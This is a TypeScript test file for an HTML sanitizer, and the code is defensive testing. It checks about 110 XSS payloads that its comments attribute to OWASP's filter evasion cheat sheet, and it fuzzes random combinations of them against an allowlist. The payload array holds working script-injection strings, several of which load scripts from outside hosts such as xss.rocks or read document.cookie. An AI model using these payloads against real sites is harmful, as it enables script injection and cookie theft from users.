import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { safeHtml } from "../../convex/kit/html";

/**
 * Payloads of OWASP's XSS Filter Evasion Cheat Sheet, in its order; what is specific to one dead
 * browser is there too, because it costs nothing.
 */
const PAYLOADS: string[] = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>`,
  `\\<a onmouseover=alert(document.cookie)\\>xxs link\\</a\\>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<a href="jav&#x0A;ascript:alert('XSS');">Click Me</a>`,
  `<a href="jav&#x0D;ascript:alert('XSS');">Click Me</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">Click Me</a>`,
  `<a href="java\0script:alert(1)">x</a>`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</script><script>alert('XSS');</script>`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<IMG SRC="livescript:[code]">`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("<javascript:alert>('XSS')")}</STYLE>`,
  `<XSS STYLE="xss:expression(alert('XSS'))">`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `¼script¾alert(¢XSS¢)¼/script¾`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076'">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>`,
  `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'"-->`,
  `<? echo('<SCR)';echo('IPT>alert("XSS")</SCRIPT>'); ?>`,
  `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`,
  `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<A HREF="//www.google.com/">XSS</A>`,
  `<A HREF="data:text/html,<script>alert(1)</script>">XSS</A>`,
  `<Img src = x onerror = "javascript: window.onerror = alert; throw XSS">`,
  `<Video> <source onerror = "javascript: alert (XSS)">`,
  `<Input value = "XSS" type = text>`,
  `<applet code="javascript:confirm(document.cookie);">`,
  `<isindex x="javascript:" onmouseover="alert(XSS)">`,
  `"></SCRIPT>”>’><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgiSGVsbG8iKTs8L3NjcmlwdD4=">`,
  `<embed code="http://businessinfo.co.uk/labs/xss/xss.swf" allowscriptaccess=always>`,
  `<scr<script>ipt>alert('XSS')</scr<script>ipt>`,
  `<style><img src="</style><img src=x onerror=alert(1)//">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<svg><desc><noscript></noscript></desc><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>`,
  `<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>`,
  `<template><script>alert(1)</script></template>`,
  `<a href="https://ok.test" onclick="alert(1)" style="position:fixed;inset:0" id="x" class="y">x</a>`,
  `<p title='"onmouseover=alert(1)'>x</p>`,
];

const ELEMENTS = new Set(
  "h1 h2 h3 h4 h5 h6 p br hr div span blockquote pre code strong b em i u s del ins sub sup small mark abbr kbd q cite ul ol li dl dt dd a img figure figcaption table caption colgroup col thead tbody tfoot tr th td".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "href title rel target src alt width height start reversed span colspan rowspan scope".split(" "),
);

/** Every tag of the result, read by a stricter eye than the one that wrote it. */
function tagsOf(html: string): { name: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<([^>]*)>/g)].map(([, inside = ""]) => {
    const tag = /^\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*"| [a-z]+)*) ?\/?$/.exec(inside);
    if (!tag) throw new Error(`Not a plain tag: <${inside}>`);
    const [, name = "", rest = ""] = tag;
    const attributes = [...rest.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)].map(
      ([, attribute = "", value = ""]): [string, string] => [attribute, value],
    );
    return { name, attributes };
  });
}

function expectHarmless(html: string): void {
  for (const { name, attributes } of tagsOf(html)) {
    expect(ELEMENTS, html).toContain(name);
    for (const [attribute, value] of attributes) {
      expect(ATTRIBUTES, html).toContain(attribute);
      if (attribute !== "href" && attribute !== "src") continue;
      expect(value, html).toMatch(/^(?:https?:|mailto:|tel:)/i);
    }
  }
  // A "<" that begins no tag is text, and is written as such.
  expect(html.replaceAll(/<[^>]*>/g, ""), html).not.toContain("<");
}

test.each(PAYLOADS)("nothing of it runs: %s", (payload) => {
  const html = safeHtml(payload);
  expectHarmless(html);
  expect(safeHtml(html)).toBe(html);
});

test("pieces of payloads, put together at random, stay harmless", () => {
  const piece = fc.constantFrom(
    ..."< > \" ' ` = / & ; : ! -- <!-- --> <![CDATA[ ]]> \0 \t \n javascript: alert(1) onerror= src= href= style=".split(
      " ",
    ),
    ...[
      "<script>",
      "</script>",
      "<img ",
      "<a ",
      "<svg>",
      "<math>",
      "<style>",
      "</style>",
      "<textarea>",
      "<noscript>",
      "<p>",
      "</p>",
      "&lt;",
      "&#x3C;",
    ],
  );
  fc.assert(
    fc.property(
      fc.array(fc.oneof(piece, fc.constantFrom(...PAYLOADS)), { maxLength: 30 }),
      (parts) => {
        const html = safeHtml(parts.join(""));
        expectHarmless(html);
        expectHarmless(safeHtml(html));
      },
    ),
    { numRuns: 500 },
  );
});

describe("what rich text is made of", () => {
  test.each([
    "<p>Rich <strong>HTML</strong> content</p>",
    "<h2>Goals</h2><ul><li>One</li><li><em>Two</em></li></ul>",
    '<ol start="3"><li>Three</li></ol>',
    "<blockquote><p>Said &amp; done</p></blockquote><pre><code>a &lt; b</code></pre>",
    '<table><thead><tr><th colspan="2" scope="col">A</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>',
    '<p><img src="https://cdn.test/a.png" alt="Sketch" width="10" height="20" /></p>',
    "日本語 <b>größe</b> 🎉",
  ])("stays as it is: %s", (html) => {
    expect(safeHtml(html)).toBe(html);
  });

  test("a link opens elsewhere and gives nothing away", () => {
    expect(safeHtml('<a href="https://x.test/?a=1&amp;b=2" rel="opener">x</a>')).toBe(
      '<a href="https://x.test/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
    expect(safeHtml('<a href="mailto:a@x.test">m</a>')).toContain('href="mailto:a@x.test"');
  });

  test("text that is nested a thousand deep neither overflows nor takes long", () => {
    const started = performance.now();
    expectHarmless(safeHtml("<div>".repeat(20_000)));
    expectHarmless(safeHtml("<".repeat(100_000)));
    expectHarmless(safeHtml('<a href="'.repeat(11_000)));
    expect(performance.now() - started).toBeLessThan(5000);
  });
});
